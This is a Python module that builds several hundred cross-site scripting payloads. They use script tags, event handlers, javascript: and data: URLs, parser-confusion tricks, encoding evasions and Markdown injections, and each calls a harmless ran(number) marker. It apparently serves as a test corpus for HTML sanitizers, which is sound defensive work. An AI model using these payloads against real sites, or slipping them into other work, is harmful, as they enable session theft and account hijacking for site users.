"""More than 300 texts that would run a script if a page took them for HTML. Each calls ran(number)."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onclick",
    "ontoggle",
    "onbegin",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onscroll",
    "onpageshow",
    "oncontentvisibilityautostatechange",
)
_ELEMENTS = (
    "svg",
    "img src=x",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe src=x",
    "marquee",
    "object data=x",
    "embed src=x",
    "style",
    "a href=# id=x tabindex=1",
    "div style=animation-name:x",
    "svg><animate attributeName=x dur=1s",
    "math",
    "x-y contenteditable autofocus",
    "p",
    "table",
    "button popovertarget=x",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "&#106;avascript:{}",
    "javascript&colon;{}",
    "&#x6A&#x61&#x76&#x61script:{}",
    "\x01javascript:{}",
    "javascript://%0A{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{}",
    "jav&#x0A;ascript:{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "javascript&#58;{}",
    "//javascript:{}",
    "blob:javascript:{}",
)
_LEADING = (
    "[a]({})",
    "![a]({})",
    "<{}>",
    "[a][b]\n\n[b]: {}",
    '<a href="{}">a</a>',
    "<iframe src='{}'></iframe>",
    "<form action={}><button>a",
    '<svg><a xlink:href="{}"><text>a',
    "[a](<{}>)",
    '<object data="{}"></object>',
    '<meta http-equiv=refresh content="0;url={}">',
    "![a](x){{ srcset='{}' }}",
)
_WHOLE = (
    "<script>{}</script>",
    "<script src=data:,{}></script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr<script>ipt>{}</script>",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "`><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<![CDATA[><script>{}</script>]]>",
    "<?xml version=1?><script>{}</script>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    '<xmp><p title="</xmp><img src=x onerror={}>">',
    "<template><script>{}</script></template>",
    "<svg><script>{}</script></svg>",
    '<svg></p><style><a id="</style><img src=x onerror={}>">',
    '<textarea><p title="</textarea><img src=x onerror={}>">',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<div>\n\n<script>{}</script>\n\n</div>",
    "```\n</code></pre><script>{}</script>\n```",
    "`</code><script>{}</script>`",
    "    </code></pre><script>{}</script>",
    "# a {{ onclick={} }}",
    "a {{: onmouseover={} }}",
    "[a](b){{: onclick={} }}",
    "![a](b){{: onerror={} }}",
    '[a](b "onclick={}")',
    "[a](b 'x\" onmouseover={} y=\"')",
    '![" onerror={} x="](y)',
    '![a](x"onerror={})',
    '*[a]: " onmouseover={} x="\n\na',
    'a[^" onclick={}]\n\n[^" onclick={}]: b',
    "[a]: b '\" onclick={} x=\"'\n\n[a]",
    "```{{ .x onclick={} }}\na\n```",
    '```" onclick={} x="\na\n```',
    "<details open ontoggle={} markdown=1>\na",
    "<div markdown=1 onclick={}>\n<script>{}</script>\n</div>",
    "\x02wzxhzdk:0\x03<script>{}</script>",
    "\x02amp\x03<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\<script>{}\\</script>",
    "<\x00script>{}</script>",
    "<script>{}",
    "<a href=x<script>{}</script>",
    "<img src='x' title='>' onerror={}>",
    '<img src="x"title="y"onerror={}>',
    "<img/src=x/onerror={}>",
    "<img src=x onerror\n=\n{}>",
    "<base href=javascript:{}//><a href=#>a",
    "<link rel=stylesheet href=data:,*{{x:expression({})}}>",
    "<style>@import 'javascript:{}';</style>",
    "<style>*{{background:url(javascript:{})}}</style>",
    "<p style=\"background:url('javascript:{}')\">",
    "{{{{ ''.__class__ }}}}<script>{}</script>",
    "{{% raw %}}<script>{}</script>{{% endraw %}}",
    "${{{}}}",
    "<%= {} %>",
    "<plaintext><script>{}</script>",
    "<frameset onload={}>",
    "<bgsound src=javascript:{}>",
    "<isindex action=javascript:{} type=image>",
    "\u202e<script>{}</script>",
    "＜script＞{}＜/script＞",
    "<ſcript>{}</ſcript>",
    "<ruby><rt><script>{}</script>",
    "<a\u3000onclick={}>a</a>",
)


def _templates() -> Iterator[str]:
    yield from _WHOLE
    for number, (element, handler) in enumerate(product(_ELEMENTS, _HANDLERS)):
        if number % 2 == 0 or element == "svg":
            name, _, attributes = element.partition(" ")
            yield f"<{name} {attributes} {handler}={{}}>" if attributes else f"<{name} {handler}={{}}>"
    for number, (address, leading) in enumerate(product(_ADDRESSES, _LEADING)):
        if number % 2 == 0 or "script" in leading:
            yield leading.format(address) if leading.count("{") == 1 else leading.replace("{}", address)


def payloads() -> tuple[str, ...]:
    """Return the pieces, each with its number in the call."""
    return tuple(_fill(template, f"ran({number})") for number, template in enumerate(_templates()))


def _fill(template: str, call: str) -> str:
    return template.replace("{}", call).replace("{{", "{").replace("}}", "}")
